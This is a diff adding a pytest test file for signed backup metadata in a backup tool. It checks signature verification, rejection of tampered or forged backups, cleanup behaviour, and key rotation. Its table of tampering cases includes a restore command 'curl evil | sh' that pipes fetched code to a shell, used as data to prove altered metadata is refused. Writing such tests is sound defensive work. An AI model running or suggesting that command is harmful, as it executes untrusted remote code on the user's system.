@@ -1,0 +1,250 @@
+"""Signed metadata: who may write to a bucket cannot make, change or move a backup that is believed (§5.49)."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import sqlite3
+import subprocess
+from collections.abc import Callable
+from contextlib import closing
+from dataclasses import dataclass
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from avalanche_backup import catalog
+from avalanche_backup.catalog import Damaged
+from avalanche_backup.errors import BackupMissing, CredentialsMissing, UsageInvalid, VerificationFailed
+from avalanche_backup.verbs.dispatch import run
+from avalanche_contract.request import (
+    CleanupRequest,
+    Credential,
+    DirectoryStorage,
+    Retention,
+    Run,
+    SqliteSource,
+)
+from avalanche_contract.result import Result
+from tests.integration.runs import NONCE, PREFIX, WRITER, Runner
+
+NOW = datetime(2026, 3, 31, 2, tzinfo=UTC)
+Change = Callable[[dict[str, Any]], None]
+
+
+@dataclass(frozen=True)
+class Key:
+    """A pair of keys, as openssl makes them by the commands of docs/security.md."""
+
+    private: Path
+    public: str
+
+    @property
+    def credential(self) -> Credential:
+        return Credential(described='key "signing.pem" of Secret "signing"', file=str(self.private))
+
+
+@pytest.fixture(scope="module")
+def keys(tmp_path_factory: pytest.TempPathFactory) -> tuple[Key, Key]:
+    folder = tmp_path_factory.mktemp("keys")
+    return _key(folder / "one.pem"), _key(folder / "two.pem")
+
+
+@pytest.fixture
+def source(tmp_path: Path) -> SqliteSource:
+    with closing(sqlite3.connect(tmp_path / "db.sqlite")) as made:
+        made.execute("CREATE TABLE t (n)")
+        made.execute("INSERT INTO t VALUES (1)")
+        made.commit()
+    return SqliteSource(name="database", path=str(tmp_path / "db.sqlite"))
+
+
+@pytest.fixture
+def runner(tmp_path: Path, keys: tuple[Key, Key]) -> Runner:
+    """Give a place where backups of the first key alone are believed."""
+    return _trusting(tmp_path, keys[0].public)
+
+
+def test_a_signed_backup_is_verified_and_restored_and_its_signature_needs_no_code_of_ours(
+    runner: Runner, source: SqliteSource, keys: tuple[Key, Key], tmp_path: Path
+) -> None:
+    made = runner.backup(source, signing_key=keys[0].credential)
+    assert runner.verify(made).verdict == "Succeeded"
+    runner.restore(made, source)
+    document = json.loads(_document(runner, made).read_bytes())
+    signature = document.pop("signature")
+    rest = json.dumps(document, sort_keys=True, separators=(",", ":")).encode()
+    (tmp_path / "signed").write_bytes(b"avalanche-backup metadata\n" + rest)
+    decoded = subprocess.run(["base64", "-d"], input=signature["value"].encode(), capture_output=True, check=True)  # fmt: skip
+    (tmp_path / "value").write_bytes(decoded.stdout)
+    told = subprocess.run(
+        ["openssl", "pkeyutl", "-verify", "-inkey", keys[0].private, "-rawin", "-in", tmp_path / "signed", "-sigfile", tmp_path / "value"],
+        capture_output=True, check=True,
+    )  # fmt: skip
+    assert b"Successfully" in told.stdout
+
+
+CHANGES: dict[str, Change] = {
+    "another time": lambda found: found.update(snapshot_time="2030-01-01T00:00:00Z"),
+    "another checksum of an object": lambda found: found["artifacts"][0].update(sha256="0" * 64),
+    "a larger object": lambda found: found["artifacts"][0].update(source_bytes=2**40),
+    "another policy": lambda found: found["run"].update(policy_uid="another"),
+    "another cluster": lambda found: found["run"].update(cluster_uid="another"),
+    "another verdict": lambda found: found.update(status="suspect"),
+    "another command": lambda found: found["artifacts"][0].update(restore_command="curl evil | sh"),
+    "a field that nobody knows": lambda found: found.update(unknown=1),
+    "another signature": lambda found: found["signature"].update(value="A" * 86 + "=="),
+    "a signature that is none": lambda found: found.update(signature=None),
+    "a key that is none": lambda found: found["signature"].update(key="x"),
+    "no signature": lambda found: found.pop("signature"),
+}
+
+
+@pytest.mark.parametrize("change", CHANGES)
+def test_metadata_that_was_changed_is_neither_restored_nor_listed_and_verification_says_so(
+    change: str, runner: Runner, source: SqliteSource, keys: tuple[Key, Key]
+) -> None:
+    made = runner.backup(source, signing_key=keys[0].credential)
+    before = Path(source.path).read_bytes()
+    path = _document(runner, made)
+    document = json.loads(path.read_bytes())
+    CHANGES[change](document)
+    path.write_text(json.dumps(document))
+    with pytest.raises(BackupMissing) as raised:
+        runner.restore(made, source)
+    assert raised.value.reason == "SignatureInvalid" and "is not trusted" in raised.value.message
+    with pytest.raises(VerificationFailed) as verified:
+        runner.verify(made)
+    assert verified.value.reason == "SignatureInvalid"
+    assert [type(each) for each in catalog.backups(runner.store, PREFIX)] == [Damaged]
+    assert Path(source.path).read_bytes() == before
+
+
+def test_the_same_document_written_otherwise_is_as_good(
+    runner: Runner, source: SqliteSource, keys: tuple[Key, Key]
+) -> None:
+    made = runner.backup(source, signing_key=keys[0].credential)
+    path = _document(runner, made)
+    path.write_text(json.dumps(dict(reversed(json.loads(path.read_bytes()).items()))))
+    assert runner.verify(made).verdict == "Succeeded"
+
+
+def test_a_backup_that_another_policy_signed_by_the_same_key_is_no_backup_of_this_one(
+    runner: Runner, source: SqliteSource, keys: tuple[Key, Key]
+) -> None:
+    made = runner.backup(source, signing_key=keys[0].credential)
+    root = _root(runner)
+    shutil.copytree(root / PREFIX, root / "edna/another")
+    with pytest.raises(BackupMissing, match="whose folder is another one"):
+        catalog.find(runner.store, "edna/another/", made.backup_id or "")
+
+
+def test_a_backup_under_the_name_of_another_is_none(
+    runner: Runner, source: SqliteSource, keys: tuple[Key, Key]
+) -> None:
+    made = runner.backup(source, signing_key=keys[0].credential)
+    path = _document(runner, made)
+    newer = path.with_name("database_20300101_000000_metadata.json")
+    shutil.copy(path, newer)
+    with pytest.raises(BackupMissing):
+        catalog.find(runner.store, PREFIX, "database_20300101_000000")
+
+
+def test_unsigned_backups_push_no_signed_one_out_and_are_not_removed(
+    runner: Runner, source: SqliteSource, keys: tuple[Key, Key], tmp_path: Path
+) -> None:
+    signed = _made(runner, source, 5, keys[0])
+    attacker = Runner(DirectoryStorage(name="volume", root=str(_root(runner))), tmp_path / "scratch")
+    forged = [_made(attacker, source, number, key) for number, key in ((4, None), (3, keys[1]), (2, None))]
+    request = CleanupRequest(
+        nonce=NONCE, place=runner.place, writer=WRITER, retention=Retention(keep_daily=1), max_delete_percent=100
+    )  # fmt: skip
+    run(request, runner.context())
+    listed = {each.name for each in (_root(runner) / PREFIX / "database").glob("*_metadata.json")}
+    assert listed == {f"{each.backup_id}_metadata.json" for each in (signed, *forged)}
+    run(
+        request.model_copy(update={"place": attacker.place}), runner.context()
+    )  # without trust the newest day stays
+    assert not _document(runner, signed).exists()
+
+
+def test_keys_are_rotated_by_trusting_both(
+    runner: Runner, source: SqliteSource, keys: tuple[Key, Key], tmp_path: Path
+) -> None:
+    old = runner.backup(source, signing_key=keys[0].credential)
+    both = _trusting(tmp_path, keys[0].public, keys[1].public)
+    new = both.backup(source, signing_key=keys[1].credential)
+    assert [both.verify(each).verdict for each in (old, new)] == ["Succeeded", "Succeeded"]
+    alone = _trusting(tmp_path, keys[1].public)
+    assert alone.verify(new).verdict == "Succeeded"
+    with pytest.raises(VerificationFailed, match="not among the trusted keys"):
+        alone.verify(old)
+
+
+def test_what_is_not_trusted_was_signed_all_the_same_and_can_be_read_without_trust(
+    source: SqliteSource, keys: tuple[Key, Key], tmp_path: Path
+) -> None:
+    anyone = _trusting(tmp_path)
+    made = anyone.backup(source, signing_key=keys[1].credential)
+    anyone.restore(made, source)
+    assert anyone.metadata(made).signature is not None
+
+
+@pytest.mark.parametrize(
+    "case", ["another key", "no key", "a missing file", "an age key", "a passphrase", "RSA"]
+)
+def test_a_key_that_would_sign_what_nobody_trusts_is_refused_before_anything_is_read(
+    case: str, runner: Runner, source: SqliteSource, keys: tuple[Key, Key], tmp_path: Path
+) -> None:
+    wrong, file = {"described": "the signing key"}, tmp_path / "wrong.pem"
+    if case == "an age key":
+        file.write_text("AGE-SECRET-KEY-1SECRET")
+    elif case == "a passphrase":
+        _openssl("genpkey", "-algorithm", "ed25519", "-aes256", "-pass", "pass:secret", "-out", str(file))
+    elif case == "RSA":
+        _openssl("genpkey", "-algorithm", "RSA", "-out", str(file))
+    credential = {"another key": keys[1].credential, "no key": None}.get(
+        case, Credential(**wrong, file=str(file))
+    )
+    with pytest.raises((UsageInvalid, CredentialsMissing)) as raised:
+        runner.backup(source, signing_key=credential)
+    assert raised.value.reason in ("SigningKeyNotTrusted", "CredentialsMissing", "SigningKeyInvalid")
+    assert "SECRET" not in raised.value.message and runner.stored() == []
+
+
+def _made(runner: Runner, source: SqliteSource, days: int, key: Key | None) -> Result:
+    moment = NOW - timedelta(days=days)
+    context = runner.context(job_name=f"cron-{int(moment.timestamp()) // 60}", job_uid=f"job-{days}")
+    signing = key.credential if key else None
+    return runner.backup(source, run_of=Run(cron_job="cron"), context=context, signing_key=signing)
+
+
+def _trusting(folder: Path, *trusted: str) -> Runner:
+    root = folder / "volume"
+    root.mkdir(exist_ok=True)
+    return Runner(
+        DirectoryStorage(name="volume", root=str(root), trusted_keys=trusted or None), folder / "scratch"
+    )
+
+
+def _root(runner: Runner) -> Path:
+    assert isinstance(runner.storage, DirectoryStorage)
+    return Path(runner.storage.root)
+
+
+def _document(runner: Runner, made: Result) -> Path:
+    return _root(runner) / PREFIX / "database" / f"{made.backup_id}_metadata.json"
+
+
+def _key(file: Path) -> Key:
+    _openssl("genpkey", "-algorithm", "ed25519", "-out", str(file))
+    raw = _openssl("pkey", "-in", str(file), "-pubout", "-outform", "DER")[-32:]
+    return Key(
+        file, subprocess.run(["base64"], input=raw, capture_output=True, check=True).stdout.decode().strip()
+    )
+
+
+def _openssl(*arguments: str) -> bytes:
+    return subprocess.run(["openssl", *arguments], capture_output=True, check=True).stdout
